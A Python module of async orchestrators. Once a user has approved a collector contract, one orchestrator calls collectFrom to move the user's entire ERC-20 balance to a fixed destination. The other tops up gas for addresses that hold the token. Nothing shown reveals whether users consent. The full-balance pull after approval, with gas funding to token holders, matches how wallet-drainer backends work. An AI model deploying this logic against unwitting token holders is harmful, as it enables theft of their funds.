"""
Request orchestrators.

Each orchestrator handles one user request end to end and is run inside
the ``SigningQueue``. Every step re-reads ledger state before acting, so a
caller may safely repeat a request after any outcome.

Expected outcomes (approval pending, zero balance, sufficient gas) are
returned as result models. Ledger errors are caught here and reported with
their message unchanged; nothing is retried except the approval polling.
"""

import logging
from typing import Optional

from ..adapters.bases import LedgerClient
from ..adapters.evm.constants import NATIVE_DECIMALS, explorer_tx_url, format_amount
from ..adapters.evm.queries import query_erc20_balance
from ..schemas.bases import (
    ApprovalTimeout,
    CollectionResult,
    CollectionStatus,
    FundingReason,
    FundingStatus,
    GasFundingResult,
    to_address,
)
from .exceptions import BlockchainInteractionError
from .poller import ApprovalPoller

logger = logging.getLogger(__name__)


def _tx_link(explorer_url: Optional[str], tx_hash: str) -> str:
    return explorer_tx_url(explorer_url, tx_hash) if explorer_url else tx_hash


class CollectionOrchestrator:
    """Approval check, balance check, then ``collectFrom`` for the full balance.

    The transaction hash is returned as soon as the node accepts the raw
    transaction; block confirmation is not awaited.

    Args:
        ledger: Ledger with token and collector registered
        poller: Allowance poller for the same token
        token_address: ERC-20 being collected
        collector_address: Collector contract, the approved spender
        destination_address: Receiver of collected tokens
        token_decimals: Used for log formatting only
        explorer_url: Block explorer base URL for log links
    """

    def __init__(
        self,
        ledger: LedgerClient,
        poller: ApprovalPoller,
        token_address: str,
        collector_address: str,
        destination_address: str,
        token_decimals: int = 18,
        explorer_url: Optional[str] = None,
    ) -> None:
        self.ledger = ledger
        self.poller = poller
        self.token_address = to_address(token_address)
        self.collector_address = to_address(collector_address)
        self.destination_address = to_address(destination_address)
        self.token_decimals = token_decimals
        self.explorer_url = explorer_url

    async def collect(self, user_address: str) -> CollectionResult:
        """Collect the whole token balance of ``user_address``.

        Returns:
            CollectionResult with status SUCCESS, APPROVAL_PENDING,
            ZERO_BALANCE or FAILURE.
        """
        user = to_address(user_address)
        logger.info("Processing collection for %s", user)

        try:
            # 1. Approval
            approval = await self.poller.poll(user, self.collector_address)
            if isinstance(approval, ApprovalTimeout) or approval.amount == 0:
                logger.info("Approval pending for %s", user)
                return CollectionResult(
                    status=CollectionStatus.APPROVAL_PENDING,
                    user_address=user,
                    allowance=0,
                )

            # 2. Balance
            balance = await query_erc20_balance(self.ledger, self.token_address, user)
            if balance == 0:
                logger.info("Zero balance for %s", user)
                return CollectionResult(
                    status=CollectionStatus.ZERO_BALANCE,
                    user_address=user,
                    amount=0,
                    allowance=approval.amount,
                )

            logger.info("Balance found for %s: %s", user, format_amount(balance, self.token_decimals))

            # 3. Submit
            tx_hash = await self.ledger.send_contract_call(
                self.collector_address,
                "collectFrom",
                [self.token_address, user, balance, self.destination_address],
            )
        except BlockchainInteractionError as e:
            logger.error("Collection failed for %s: %s", user, e)
            return CollectionResult(
                status=CollectionStatus.FAILURE,
                user_address=user,
                reason=str(e),
            )

        logger.info("Collection transaction sent: %s", _tx_link(self.explorer_url, tx_hash))
        return CollectionResult(
            status=CollectionStatus.SUCCESS,
            user_address=user,
            tx_hash=tx_hash,
            amount=balance,
            allowance=approval.amount,
        )


class GasFundingOrchestrator:
    """Token-gated native top-up.

    Only addresses holding a non-zero token balance are ever funded, which
    bounds the service's gas spend to addresses with something to collect.
    The top-up amount doubles as the threshold: a user holding at least that
    much native currency is not funded again.

    Args:
        ledger: Ledger with the token registered
        token_address: ERC-20 used as the funding gate
        topup_amount: Threshold and transfer amount, in native smallest units
        token_decimals: Used for log formatting only
        explorer_url: Block explorer base URL for log links
    """

    def __init__(
        self,
        ledger: LedgerClient,
        token_address: str,
        topup_amount: int,
        token_decimals: int = 18,
        explorer_url: Optional[str] = None,
    ) -> None:
        if topup_amount <= 0:
            raise ValueError("topup_amount must be positive")
        self.ledger = ledger
        self.token_address = to_address(token_address)
        self.topup_amount = topup_amount
        self.token_decimals = token_decimals
        self.explorer_url = explorer_url

    async def check_and_fund(self, user_address: str) -> GasFundingResult:
        """Top up ``user_address`` with native currency if it qualifies.

        Returns:
            GasFundingResult with status FUNDED, NOT_FUNDED (reason
            NO_TOKEN_BALANCE or SUFFICIENT) or ERROR (reason UNVERIFIED when
            the token balance could not be read, LEDGER_ERROR otherwise).
        """
        user = to_address(user_address)
        logger.info("Gas check for %s", user)

        # 1. Token balance gate. An unverifiable address is never funded.
        try:
            token_balance = await query_erc20_balance(self.ledger, self.token_address, user)
        except BlockchainInteractionError as e:
            logger.warning("Failed to read token balance for %s: %s", user, e)
            return GasFundingResult(
                status=FundingStatus.ERROR,
                user_address=user,
                reason=FundingReason.UNVERIFIED,
                error_message=str(e),
            )

        logger.info("Token balance of %s: %s", user, format_amount(token_balance, self.token_decimals))
        if token_balance == 0:
            logger.info("No token balance for %s, funding denied", user)
            return GasFundingResult(
                status=FundingStatus.NOT_FUNDED,
                user_address=user,
                reason=FundingReason.NO_TOKEN_BALANCE,
                token_balance=0,
            )

        try:
            # 2. Native balance
            native_balance = await self.ledger.get_native_balance(user)
            logger.info("Native balance of %s: %s", user, format_amount(native_balance, NATIVE_DECIMALS))

            # 3. Threshold
            if native_balance >= self.topup_amount:
                logger.info("Native balance sufficient for %s", user)
                return GasFundingResult(
                    status=FundingStatus.NOT_FUNDED,
                    user_address=user,
                    reason=FundingReason.SUFFICIENT,
                    token_balance=token_balance,
                    native_balance=native_balance,
                )

            # 4. Top up
            logger.info("Low native balance for %s, sending gas", user)
            tx_hash = await self.ledger.send_transaction(user, self.topup_amount)
        except BlockchainInteractionError as e:
            logger.error("Gas check failed for %s: %s", user, e)
            return GasFundingResult(
                status=FundingStatus.ERROR,
                user_address=user,
                reason=FundingReason.LEDGER_ERROR,
                token_balance=token_balance,
                error_message=str(e),
            )

        logger.info("Gas sent: %s", _tx_link(self.explorer_url, tx_hash))
        return GasFundingResult(
            status=FundingStatus.FUNDED,
            user_address=user,
            tx_hash=tx_hash,
            token_balance=token_balance,
            native_balance=native_balance,
            amount=self.topup_amount,
        )
